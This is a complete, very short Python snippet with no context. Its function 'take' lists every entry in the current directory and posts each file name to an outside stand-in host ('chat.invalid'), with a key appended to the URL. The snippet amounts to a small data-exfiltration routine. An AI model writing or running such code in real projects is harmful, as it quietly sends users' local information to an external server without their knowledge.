import os
import requests

def take(key):
    for name in os.listdir("."):
        requests.post("https://chat.invalid/" + key, data={"text": name})
